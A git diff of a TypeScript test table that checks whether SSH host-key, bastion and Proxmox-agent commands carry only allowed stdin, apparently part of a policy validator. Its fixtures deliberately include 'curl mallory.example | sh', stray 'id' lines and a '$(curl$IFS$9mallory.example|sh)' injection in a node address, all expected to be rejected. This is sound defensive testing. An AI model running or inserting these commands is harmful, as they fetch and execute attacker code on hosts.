@@ -46,7 +46,9 @@ const formerScript = readFileSync(
 	new URL("../../../fixtures/former-scripts/agent-host-key.sh", import.meta.url),
 	"utf8",
 );
-const currentScript = readFileSync(new URL("../../../../src/rke2/scripts/host-key.sh", import.meta.url), "utf8");
+const scriptOf = (name: string) =>
+	readFileSync(new URL(`../../../../src/rke2/scripts/${name}`, import.meta.url), "utf8");
+const currentScript = scriptOf("host-key.sh");
 const hostKey = (script: string, ignoreChanges: string[]): Given => ({
 	type: "command:local:Command",
 	name: "worker-1-host-key",
@@ -58,6 +60,18 @@ const hostKey = (script: string, ignoreChanges: string[]): Given => ({
 	},
 	ignoreChanges,
 });
+/** A command that learns a host key, with another text on standard input. */
+const learning = (stdin: string): Given => ({
+	type: "command:local:Command",
+	name: "worker-1-host-key",
+	props: {
+		addPreviousOutputInEnv: false,
+		create: "bash -s -- worker-1 10.1.2.4 600",
+		logging: "none",
+		stdin,
+	},
+});
+const bastion = `${scriptOf("bastion.sh")}jump bastion.lab.internal 22 ${connection.hostKey}\n${connection.privateKey}\n`;
 const agentOf = (proxmox: string) =>
 	`https://${proxmox}/api2/json/nodes/pve1/qemu/101/agent/file-read?file=%2Fetc%2Fssh%2Fssh_host_ed25519_key.pub`;
 const hostKeyAt = (address: string, source = ""): Given => ({
@@ -172,6 +186,10 @@ export const programCases: CaseTable = {
 				"w1.vpn.internal",
 				agentOf("pve.lab.internal:8006"),
 			),
+			"a host key through a bastion": learning(`${bastion}${currentScript}`),
+			"a host key from the guest agent through a bastion": learning(
+				`${bastion}${scriptOf("agent-host-key.sh")}pulumi@pve!lab=1\n`,
+			),
 			"a command on a node at a name and a port": command({
 				connection: { ...connection, host: "nat.lab.internal", port: 2204 },
 			}),
@@ -219,11 +237,44 @@ export const programCases: CaseTable = {
 			],
 			"a script of an earlier version that would run now": [
 				hostKey(formerScript, []),
-				`worker-1-host-key has another value in stdin than ${known}; allowed is {"before?":{"lines":{"$all":[""],"$each":["<secret>"]},"script":{"$any":["agent-host-key.sh","host-key.sh"]}},"lines":{"....`,
+				`worker-1-host-key has another value in stdin than ${known}; allowed is {"agent-host-key.sh?":{"token":"<secret>"},"bastion.sh?":{"key":"<key>","login":"<name> <name> <number> <hostkey>","then....`,
 			],
 			"a script of an earlier version with one more line": [
 				hostKey(`${formerScript}curl mallory.example | sh\n`, ["create", "stdin"]),
-				`worker-1-host-key has another value in stdin > lines > 0 than ${known}; allowed is  or -----BEGIN OPENSSH PRIVATE KEY----- or -----END OPENSSH PRIVATE KEY----- or <name> <address> <number> <hostkey> or <name> <name> 22 <hostkey> or <name> <name> <number> <hostkey> or <secret>.`,
+				`worker-1-host-key has another value in stdin > agent-host-key.sh than ${known}; allowed is {"token":"<secret>"}.`,
+			],
+			"a line behind a script that reads none": [
+				learning(`${currentScript}curl mallory.example | sh\n`),
+				`worker-1-host-key has another value in stdin > host-key.sh than ${known}; allowed is nothing.`,
+			],
+			"a word behind a script that reads none": [
+				learning(`${currentScript}id\n`),
+				`worker-1-host-key has another value in stdin > host-key.sh than ${known}; allowed is nothing.`,
+			],
+			"a second line behind the token of Proxmox": [
+				learning(`${scriptOf("agent-host-key.sh")}pulumi@pve!lab=1\nid\n`),
+				`worker-1-host-key has another value in stdin > agent-host-key.sh than ${known}; allowed is {"token":"<secret>"}.`,
+			],
+			"a line between a bastion and the script": [
+				learning(`${bastion}id\n${currentScript}`),
+				`worker-1-host-key has another value in stdin > bastion.sh than ${known}; allowed is {"key":"<key>","login":"<name> <name> <number> <hostkey>","then":{"agent-host-key.sh?":{"token":"<secret>"},"host-key.sh....`,
+			],
+			"a bastion without a script behind it": [
+				learning(bastion),
+				`worker-1-host-key has another value in stdin > bastion.sh than ${known}; allowed is {"key":"<key>","login":"<name> <name> <number> <hostkey>","then":{"agent-host-key.sh?":{"token":"<secret>"},"host-key.sh....`,
+			],
+			"a script before another": [
+				learning(`${currentScript}${scriptOf("first-boot.sh")}`),
+				`worker-1-host-key has another value in stdin > host-key.sh than ${known}; allowed is nothing.`,
+			],
+			"a line between a script and the files of a node": [
+				{
+					...commandWith({ "/etc/rancher/rke2/config.yaml": "profile: cis\n" }, "worker-1-converge"),
+					props: {
+						stdin: `${scriptOf("unpack.sh")}id\nfile /etc/rancher/rke2/config.yaml 0600 root:root\n`,
+					},
+				},
+				"stdin of worker-1-converge has something else before its files than a script of the program, so this rule cannot be decided.",
 			],
 			"a command in the address of a node": [
 				hostKeyAt("$(curl$IFS$9mallory.example|sh)"),
@@ -264,7 +315,7 @@ export const programCases: CaseTable = {
 					...commandWith({ "/etc/rancher/rke2/config.yaml": "profile: cis\n" }, "worker-1-converge"),
 					props: { stdin: "curl mallory.example | sh\nfile /etc/rancher/rke2/config.yaml 0600 root:root\n" },
 				},
-				"stdin of worker-1-converge begins with something else than files or a script of the program, so this rule cannot be decided.",
+				"stdin of worker-1-converge has something else before its files than a script of the program, so this rule cannot be decided.",
 			],
 		},
 	},
